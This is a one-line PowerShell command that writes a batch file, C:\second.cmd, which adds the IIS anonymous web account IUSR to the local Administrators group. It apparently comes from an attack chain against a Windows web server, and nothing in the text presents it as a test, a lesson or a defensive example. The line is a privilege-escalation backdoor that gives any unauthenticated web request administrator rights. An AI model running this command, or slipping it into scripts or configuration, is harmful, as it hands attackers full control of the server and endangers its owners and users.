Set-Content C:\second.cmd 'net localgroup Administrators IUSR /add'
